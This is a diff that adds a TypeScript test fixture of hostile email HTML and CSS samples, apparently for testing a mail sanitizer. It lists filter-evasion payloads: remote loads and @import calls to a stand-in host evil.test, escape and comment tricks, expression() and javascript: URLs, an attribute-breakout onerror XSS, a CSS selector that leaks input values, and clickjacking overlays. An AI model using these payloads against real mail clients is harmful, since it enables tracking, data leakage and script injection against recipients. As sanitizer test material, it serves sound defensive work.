@@ -1,0 +1,67 @@
+import type { HostileMails } from './hostile-mail.js';
+
+const evil = 'https://evil.test';
+const on = (style: string) => `<div style='${style}'>x</div>`;
+
+/** Styles that load, run, or draw over the page around them. */
+export const styles: HostileMails = {
+  'url in background': on(`background:url(${evil}/bg.gif)`),
+  'url in background-image': on(`background-image:url("${evil}/bgi.gif")`),
+  'url in capitals': on(`BACKGROUND:URL(${evil}/caps.gif)`),
+  'url in quotes of references': `<div style="background:url(&quot;${evil}/q.gif&quot;)">x</div>`,
+  'url with an escape': on(`background:\\75rl(${evil}/esc.gif)`),
+  'url with a long escape': on(`background:\\000075\\000072\\00006c(${evil}/esc2.gif)`),
+  'url with escapes in its scheme': on(`background:url(\\68ttps\\3a //evil.test/esc3.gif)`),
+  'property with an escape': on(`\\62 ackground:url(${evil}/esc4.gif)`),
+  'url after a comment': on(`background:/**/url(${evil}/c1.gif)`),
+  'url in a property with a comment': on(`/*x*/background/**/:/*y*/url(${evil}/c2.gif)`),
+  'comment without an end': on(`color:red;/*`) + on(`background:url(${evil}/c3.gif)`),
+  'url with a semicolon': on(`background:url("${evil}/a;color:red;b.gif")`),
+  'url without an end': on(`background:url(${evil}/open.gif`),
+  'url protocol-relative': on('background:url(//evil.test/rel.gif)'),
+  'url after a broken declaration':
+    on(`color:{};background:url(${evil}/d.gif)`) +
+    on(`};background:url(${evil}/e.gif)`) +
+    on(`background:url(${evil}/f.gif)`),
+  'url after a newline': on(`background:\n\furl(\n${evil}/nl.gif\n)`),
+  'image-set': on(`background-image:image-set("${evil}/set.gif" 1x)`),
+  '-webkit-image-set': on(`background-image:-webkit-image-set(url(${evil}/wset.gif) 1x)`),
+  'cross-fade': on(`background-image:-webkit-cross-fade(url(${evil}/f1.gif),url(${evil}/f2.gif),50%)`),
+  'src function': on(`background-image:src("${evil}/src.gif");background-image:url(${evil}/src2.gif)`),
+  'list-style-image': `<ul style="list-style-image:url(${evil}/list.gif)"><li>x</ul>`,
+  'list-style': `<ul style="list-style:square url(${evil}/list2.gif)"><li>x</ul>`,
+  'border-image': on(`border:9px solid;border-image:url(${evil}/border.gif) 30`),
+  'border-image-source': on(`border:9px solid;border-image-source:url(${evil}/border2.gif)`),
+  cursor: on(`cursor:url(${evil}/c.cur),auto;width:50px;height:50px`),
+  content: on(`content:url(${evil}/content.gif)`),
+  'filter and clip-path': on(`filter:url(${evil}/f.svg#f);clip-path:url(${evil}/c.svg#c)`),
+  mask: on(`-webkit-mask:url(${evil}/m.gif);mask-image:url(${evil}/m2.gif);width:9px;height:9px`),
+  'shape-outside': on(`float:left;shape-outside:url(${evil}/shape.gif);width:9px;height:9px`),
+  'custom property': on(`--x:url(${evil}/var.gif);background:var(--x)`),
+  'var with a fall-back': on(`background:var(--none,url(${evil}/var2.gif))`),
+  'attr, env and if': `<div data-x="${evil}/attr.gif" style="background:image-set(attr(data-x));background:url(${evil}/env.gif)">x</div>`,
+  expression: on('width:expression(alert(1));color:red'),
+  'expression in pieces': on('width:exp/**/ression(alert(1));xss:expr\\65ssion(alert(1))'),
+  '-moz-binding and behavior': on(
+    `-moz-binding:url(${evil}/x.xml#x);behavior:url(${evil}/x.htc);background:url(${evil}/b.gif)`,
+  ),
+  'javascript url': on('background:url(javascript:alert(1));list-style-image:url("javascript:alert(1)")'),
+  'style element': `<style>body{background:url(${evil}/body.gif)}</style>`,
+  'style element that imports': `<style>@import url(${evil}/import.css);</style>`,
+  'style element that imports a string': `<style>@\\69mport "${evil}/import2.css";</style>`,
+  'style element with a font': `<style>@font-face{font-family:x;src:url(${evil}/font.woff)}*{font-family:x}</style><p>x`,
+  'style element that reads attributes': `<style>input[value^=a]{background:url(${evil}/a)}</style><input value=abc>`,
+  'style element with generated content': `<style>p::before{content:url(${evil}/before.gif)}</style><p>x`,
+  'style element without an end': `<p>x<style>*{background:url(${evil}/open.gif)}`,
+  'style element in a head': `<html><head><style>*{background:url(${evil}/head.gif)}</style></head><body>x`,
+  'style element with namespace and layer': `<style>@import "${evil}/layer.css" layer(x) supports(display:block);</style>`,
+  'style with media': `<style media="screen">@media all{p{background:url(${evil}/media.gif)}}</style><p>x`,
+  'style attribute given twice': `<div style="background:url(${evil}/t.gif)" style="color:red">x</div>`,
+  'style on a cell': `<table><tr><td style="background:url(${evil}/cell.gif)" background="${evil}/cell2.gif">x</table>`,
+  'style on body': `<body style="background:url(${evil}/bodystyle.gif)" background="${evil}/bodybg.gif">x`,
+  'style that breaks out of its attribute': `<div style="font-family:'&quot; onclick=alert(1) x='">x</div><img src=x onerror=alert(1)>`,
+  'cover over the page': `<a href="https://example.com/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0;background:url(${evil}/cover.gif)">x</a>`,
+  'cover by negative margins': `<div style="margin:-1000px;padding:1000px;background:url(${evil}/margin.gif)">x</div>`,
+  'cover by a shadow': `<div style="box-shadow:0 0 0 9999px red;outline:9999px solid red;transform:scale(99);background:url(${evil}/shadow.gif)">x</div>`,
+  'animation and anchor': `<div style="animation:x 1s;anchor-name:--a;position-anchor:--a;view-timeline:--x;background:url(${evil}/anim.gif)">x</div>`,
+};
